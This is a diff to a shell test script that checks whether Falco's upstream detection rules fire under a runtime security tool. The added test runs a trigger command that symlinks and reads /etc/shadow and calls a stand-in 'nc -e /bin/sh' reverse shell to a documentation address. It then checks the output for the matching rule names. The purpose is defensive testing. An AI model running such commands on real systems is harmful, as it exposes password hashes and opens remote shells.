@@ -81,6 +81,20 @@ else
   ko "kill" "out: $out" "err: $(cat "$tmp/err")"
 fi
 
+# Upstream stable rules fire live, unchanged (the rules file is Falco's own).
+upstream=$(dirname "$vigil")/../shared/falco/falco_rules.yaml
+if [ -r "$upstream" ]; then
+  cp /bin/true "$tmp/nc"
+  out=$(cd "$tmp" && timeout 60 "$vigil" run --container-id 0123456789ab -o log_level=warning -o rule_matching=all -r "$upstream" -- sh -c \
+        'ln -sf /etc/shadow lnk; cat /etc/shadow >/dev/null; ./nc -e /bin/sh 192.0.2.1 4444; true' 2>&1)
+  for rule in "Symlinks created over sensitive files" "Sensitive file opened for reading by non-trusted program" \
+              "Netcat runs inside container that allows remote code execution"; do
+    if printf '%s\n' "$out" | grep -q "$rule"; then ok "upstream rule live: $rule"; else ko "upstream rule live: $rule" "out: $out"; fi
+  done
+else
+  echo "SKIP: upstream Falco rules not found"
+fi
+
 # Exit statuses, as an entrypoint must pass them on.
 check_status () {
   local want=$1 label=$2; shift 2
